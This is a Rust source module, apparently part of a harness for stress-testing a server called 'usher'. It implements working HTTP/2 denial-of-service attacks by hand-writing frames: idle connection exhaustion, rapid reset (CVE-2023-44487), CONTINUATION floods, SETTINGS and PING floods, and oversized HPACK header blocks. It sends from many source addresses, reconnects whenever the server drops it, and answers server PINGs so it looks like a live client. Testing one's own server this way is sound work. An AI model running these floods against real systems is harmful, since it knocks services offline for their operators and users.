//! HTTP/2 attacks on h2c (prior knowledge), frames written by hand ([`super::frames`]):
//! idle connections, rapid reset (CVE-2023-44487), CONTINUATION flood, SETTINGS and PING
//! floods, oversized HPACK blocks. Each connection's reader answers the server's SETTINGS
//! and PINGs (as a live client would, so usher cannot tell it from one by silence) and
//! counts what the server says back; a connection the server ends is opened again.

use super::frames::{self, Frame};
use super::{Kind, Plan, Tally, connect, source, sources};
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::sync::Mutex;
use tokio::task::JoinHandle;

/// Frames (or frame pairs) written per batch: big enough to flood, small enough that the
/// reader's ACKs get a turn.
const BATCH: usize = 100;

type Writer = Arc<Mutex<OwnedWriteHalf>>;

/// Runs `plan.sockets` connections of the plan's kind until the run ends.
pub async fn run(plan: &Plan, tally: Arc<Tally>) {
    let Ok(addresses) = sources(source::H2, plan.sockets) else { return };
    let mut tasks = tokio::task::JoinSet::new();
    // Idle connections open at about 2,000 a second; the floods all at once.
    let pace = if plan.kind == Kind::H2Idle { Duration::from_micros(500) } else { Duration::ZERO };
    for i in 0..plan.sockets {
        let job = Job {
            kind: plan.kind,
            target: plan.target,
            from: addresses.get(i),
            authority: plan.target.to_string(),
            path: plan.path.clone(),
            header_bytes: plan.header_bytes,
            tally: tally.clone(),
        };
        let delay = pace * u32::try_from(i).unwrap_or(u32::MAX);
        tasks.spawn(async move {
            tokio::time::sleep(delay).await;
            job.run().await;
        });
    }
    while tasks.join_next().await.is_some() {}
}

struct Job {
    kind: Kind,
    target: SocketAddr,
    from: Ipv4Addr,
    authority: String,
    path: String,
    header_bytes: usize,
    tally: Arc<Tally>,
}

impl Job {
    async fn run(self) {
        loop {
            let Ok(stream) = connect(self.from, self.target).await else {
                self.tally.add("connect_failed", 1);
                tokio::time::sleep(Duration::from_millis(500)).await;
                continue;
            };
            self.tally.add("connections", 1);
            self.tally.open();
            let (read, write) = stream.into_split();
            let writer: Writer = Arc::new(Mutex::new(write));
            // Aborted with this task at the run's end, so the connection closes with it.
            let reader = AbortOnDrop(tokio::spawn(read_loop(read, writer.clone(), self.tally.clone())));
            if send(&writer, &frames::handshake()).await {
                self.attack(&writer, &reader.0).await;
            }
            // The server ended it (or refused a write): give the reader a moment to see why.
            let _ = tokio::time::timeout(Duration::from_millis(200), wait(&reader.0)).await;
            drop(reader);
            self.tally.close();
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    /// The kind's traffic on one connection, until the server ends it.
    async fn attack(&self, writer: &Writer, reader: &JoinHandle<()>) {
        let request = frames::request_block(&self.authority, &self.path);
        let mut batch = Vec::with_capacity(64 * 1024);
        let mut stream_id: u32 = 1;
        match self.kind {
            Kind::H2Idle => {
                frames::frame(&mut batch, frames::HEADERS, frames::END_HEADERS | frames::END_STREAM, 1, &request);
                if send(writer, &batch).await {
                    self.tally.add("requests_sent", 1);
                    // Idle from here on: only the reader answers the server's PINGs.
                    let _ = tokio::time::timeout(Duration::from_secs(86_400), wait(reader)).await;
                }
            }
            Kind::H2Continuation => {
                frames::frame(&mut batch, frames::HEADERS, frames::END_STREAM, 1, &request);
                let filler = continuation_filler();
                while !reader.is_finished() {
                    for _ in 0..4 {
                        frames::frame(&mut batch, frames::CONTINUATION, 0, 1, &filler);
                    }
                    if !send(writer, &batch).await {
                        return;
                    }
                    batch.clear();
                    self.tally.add("continuation_frames", 4);
                    tokio::task::yield_now().await;
                }
            }
            Kind::H2RapidReset | Kind::H2Settings | Kind::H2Ping | Kind::H2Hpack => {
                while !reader.is_finished() && stream_id < 0x7fff_0000 {
                    let name = match self.kind {
                        Kind::H2RapidReset => {
                            for _ in 0..BATCH {
                                let flags = frames::END_HEADERS | frames::END_STREAM;
                                frames::frame(&mut batch, frames::HEADERS, flags, stream_id, &request);
                                frames::frame(
                                    &mut batch,
                                    frames::RST_STREAM,
                                    0,
                                    stream_id,
                                    &frames::CANCEL.to_be_bytes(),
                                );
                                stream_id += 2;
                            }
                            "streams_reset"
                        }
                        Kind::H2Settings => {
                            // SETTINGS_INITIAL_WINDOW_SIZE = 65,535: each one must be applied and acked.
                            for _ in 0..BATCH {
                                frames::frame(&mut batch, frames::SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]);
                            }
                            "settings_sent"
                        }
                        Kind::H2Ping => {
                            for n in 0..BATCH as u64 {
                                frames::frame(&mut batch, frames::PING, 0, 0, &n.to_be_bytes());
                            }
                            "pings_sent"
                        }
                        _ => {
                            let block = oversized_block(&request, self.header_bytes);
                            frames::header_frames(&mut batch, stream_id, &block, true);
                            stream_id += 2;
                            "oversized_blocks_sent"
                        }
                    };
                    if !send(writer, &batch).await {
                        return;
                    }
                    let sent = if name == "oversized_blocks_sent" { 1 } else { BATCH as i64 };
                    self.tally.add(name, sent);
                    batch.clear();
                    tokio::task::yield_now().await;
                }
            }
            _ => {}
        }
    }
}

/// A task that ends when its handle is dropped: a detached reader would hold the read half
/// (and through the writer, the socket) open after the attack that started it was stopped.
struct AbortOnDrop(JoinHandle<()>);

impl Drop for AbortOnDrop {
    fn drop(&mut self) {
        self.0.abort();
    }
}

/// Waits for the reader to end (the server closed the connection).
async fn wait(reader: &JoinHandle<()>) {
    while !reader.is_finished() {
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}

/// Writes `bytes`; false when the server has closed.
async fn send(writer: &Writer, bytes: &[u8]) -> bool {
    writer.lock().await.write_all(bytes).await.is_ok()
}

/// A CONTINUATION payload of whole literal headers, [`frames::MAX_FRAME`] bytes or a little
/// less: each frame adds about sixteen 1 KiB headers to a block that never ends.
fn continuation_filler() -> Vec<u8> {
    let mut out = Vec::with_capacity(frames::MAX_FRAME);
    let value = [b'a'; 1000];
    while out.len() + 1010 <= frames::MAX_FRAME {
        frames::literal(&mut out, b"x-c", &value, false);
    }
    out
}

/// The request's block followed by 4 KiB headers (added to the server's dynamic table) up to
/// `bytes` in all: far beyond any sane header list, split over CONTINUATION frames.
fn oversized_block(request: &[u8], bytes: usize) -> Vec<u8> {
    let mut out = request.to_vec();
    let value = vec![b'h'; 4000];
    let mut n = 0u32;
    while out.len() < bytes {
        frames::literal(&mut out, format!("x-h{n}").as_bytes(), &value, true);
        n += 1;
    }
    out
}

/// Reads the server's frames: acknowledges its SETTINGS, answers its PINGs, counts responses,
/// resets and GOAWAYs (by error code), and ends when the server closes.
async fn read_loop(mut read: OwnedReadHalf, writer: Writer, tally: Arc<Tally>) {
    while let Some(Frame { kind, flags, payload }) = frames::read(&mut read).await {
        match kind {
            frames::SETTINGS if flags & frames::ACK == 0 => {
                let mut ack = Vec::with_capacity(9);
                frames::frame(&mut ack, frames::SETTINGS, frames::ACK, 0, &[]);
                let _ = send(&writer, &ack).await;
            }
            frames::PING if flags & frames::ACK == 0 => {
                let mut pong = Vec::with_capacity(17);
                frames::frame(&mut pong, frames::PING, frames::ACK, 0, &payload);
                let _ = send(&writer, &pong).await;
                tally.add("server_pings_answered", 1);
            }
            frames::HEADERS => tally.add("responses", 1),
            frames::RST_STREAM => tally.add("resets_received", 1),
            frames::GOAWAY => {
                let code = payload.get(4..8).map_or(u32::MAX, |c| u32::from_be_bytes([c[0], c[1], c[2], c[3]]));
                tally.add(goaway_name(code), 1);
            }
            _ => {}
        }
    }
    tally.add("closed_by_server", 1);
}

fn goaway_name(code: u32) -> &'static str {
    match code {
        0x0 => "goaway_no_error",
        0x1 => "goaway_protocol_error",
        0x2 => "goaway_internal_error",
        0x6 => "goaway_frame_size_error",
        0x9 => "goaway_compression_error",
        0xb => "goaway_enhance_your_calm",
        _ => "goaway_other",
    }
}
